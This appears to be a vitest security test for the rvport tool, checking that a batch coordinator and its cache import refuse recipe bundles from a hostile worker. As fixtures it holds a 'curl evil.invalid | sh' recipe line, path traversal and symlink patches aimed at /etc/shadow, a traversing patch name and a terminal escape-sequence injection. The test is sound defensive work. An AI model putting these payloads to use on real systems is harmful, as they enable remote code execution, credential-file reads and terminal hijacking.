import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Job, Worker } from 'bullmq';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PortJob, PortJobReturn } from '../../src/batch/queue/PortJob.ts';
import { QUEUE_NAME } from '../../src/batch/queue/queueConnection.ts';
import type { RecipeEntry } from '../../src/recipes/RecipeEntry.ts';
import { startRedis } from '../helpers/redisServer.ts';
import { runCli } from '../helpers/rvportCli.ts';

// A hostile worker on a real queue answers a real `rvport batch --queue` coordinator with
// recipe bundles that try to plant entries: for another package, with paths that leave the
// port's folders, with a patch that makes a symbolic link. The coordinator must import none of
// them (and say so in the result), import the honest one, and `rvport cache import` must refuse
// the same bundles.
let redis: Awaited<ReturnType<typeof startRedis>>;
let work: string;
let hostile: Worker;

const entry = (pkg: string, over: Partial<RecipeEntry> = {}): RecipeEntry => ({
  formatVersion: 1,
  package: pkg,
  imageId: 'trixie-riscv64-accelerated-1',
  source: { spec: `debian:${pkg}` },
  buildSystem: 'make',
  plan: { dir: '.', packages: [], phases: [{ name: 'build', commands: ['make'] }] },
  dependencies: [],
  patches: [],
  artifacts: [{ path: pkg, machine: 'riscv64', bits: 64, abi: 'lp64d', type: 'executable' }],
  verification: { verdict: 'verified', reason: 'riscv64' },
  durations: { total: 1 },
  recipe: `# ${pkg} for riscv64\n`,
  createdAt: '2026-12-01T00:00:00.000Z',
  rvportVersion: '0.1.0',
  ...over,
});
const bundle = (...entries: RecipeEntry[]) => JSON.stringify({ rvportRecipes: 1, entries });

/** What the hostile worker sends back, by the job's package. */
const bundles: Record<string, string> = {
  // an honest answer
  sl: bundle(entry('sl')),
  // its own entry, and one that would replace another package's verified recipe
  zlib: bundle(entry('zlib'), entry('openssl', { recipe: '# curl evil.invalid | sh\n' })),
  // an artifact path that a --package zip would read from outside the port's folder
  libpng: bundle(entry('libpng', { artifacts: [{ path: '../../../../etc/shadow', machine: 'riscv64' }] })),
  // a patch that makes lib a link to a host file, for a later host-side read to follow
  curl: bundle(
    entry('curl', {
      patches: [
        {
          name: '0001-link.patch',
          diff: 'diff --git a/lib b/lib\nnew file mode 120000\nindex 0000000..1111111\n--- /dev/null\n+++ b/lib\n@@ -0,0 +1 @@\n+/etc/shadow\n\\ No newline at end of file\n',
        },
      ],
    }),
  ),
  // a patch file name that climbs out of OUT/NAME/patches
  expat: bundle(entry('expat', { patches: [{ name: '../../../../tmp/evil.patch', diff: '' }] })),
};

beforeAll(async () => {
  redis = await startRedis();
  work = mkdtempSync(join(tmpdir(), 'rvport-hostile-bundles-'));
  writeFileSync(
    join(work, 'list.txt'),
    `${Object.keys(bundles)
      .map((p) => `debian:${p}`)
      .join('\n')}\n`,
  );
  hostile = new Worker<PortJob, PortJobReturn>(
    QUEUE_NAME,
    async (job: Job<PortJob>) => ({
      result: {
        key: job.data.key,
        line: job.data.line,
        source: job.data.source,
        name: job.data.name,
        verdict: 'verified',
        exitCode: 0,
        buildSystem: 'make',
        errorCategory: null,
        attempts: 0,
        wallMs: 1,
        llm: { calls: 0, costUsd: 0 },
        cacheHit: false,
        tests: null,
        message: job.data.name === 'sl' ? 'verified' : 'verified\u001b]0;owned\u0007',
        worker: 'hostile:1',
        finishedAt: new Date().toISOString(),
      },
      recipes: bundles[job.data.name] ?? null,
      files: { 'recipe.md': `# ${job.data.name}\n` },
    }),
    { connection: { url: redis.url } },
  );
  await hostile.waitUntilReady();
}, 60_000);

afterAll(async () => {
  await hostile?.close();
  await redis?.stop();
  if (work) rmSync(work, { recursive: true, force: true });
});

describe('recipe bundles from a hostile worker', () => {
  it('imports only the honest bundle and records why the others were refused', async () => {
    const home = join(work, 'coordinator');
    const run = await runCli(['batch', 'list.txt', '--queue', redis.url, '--out', 'out'], {
      cwd: work,
      env: { RVPORT_HOME: home },
    });
    expect(run.code, run.stderr).toBe(0); // the worker says verified; the entries are the batch's own
    expect(readdirSync(join(home, 'recipes'))).toEqual(['sl']);
    const rows = readFileSync(join(work, 'out', 'results.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    const message = (name: string) => rows.find((r) => r.name === name)?.message;
    expect(message('sl')).toBe('verified');
    // the worker's words are shown, never obeyed, by the coordinator's terminal and reports
    expect(message('zlib')).toMatch(/^verified\\u001b\]0;owned\\u0007; /);
    expect(run.stderr + readFileSync(join(work, 'out', 'summary.md'), 'utf8')).not.toContain(
      '\u001b]0;owned',
    );
    expect(message('zlib')).toMatch(
      /recipe bundle was refused: .*entry 2 is for package 'openssl', not 'zlib'/,
    );
    expect(message('libpng')).toMatch(
      /recipe bundle was refused: .*artifacts\.0\.path: must be a relative path inside/,
    );
    expect(message('curl')).toMatch(/recipe bundle was refused: .*patches\.0.*symbolic link/);
    expect(message('expat')).toMatch(
      /recipe bundle was refused: .*patches\.0\.name: a patch name is NNNN-words\.patch/,
    );
    expect(existsSync('/tmp/evil.patch')).toBe(false);
  }, 120_000);

  // (a bundle of several packages is what `cache export` writes: only a worker's is held to one)
  it('is refused the same way by rvport cache import, with exit 1 and nothing written', async () => {
    const home = join(work, 'importer');
    for (const name of ['libpng', 'curl', 'expat']) {
      const file = join(work, `${name}.bundle.json`);
      writeFileSync(file, bundles[name] as string);
      const run = await runCli(['cache', 'import', file], { cwd: work, env: { RVPORT_HOME: home } });
      expect(run.code, name).toBe(1);
      expect(run.stderr).toMatch(
        /^rvport: .*bundle\.json: entry \d is invalid|^rvport: .*entry 2 is for package/,
      );
      expect(run.stderr).not.toMatch(/\n\s+at /);
      expect(existsSync(join(home, 'recipes'))).toBe(false);
    }
  }, 120_000);
});
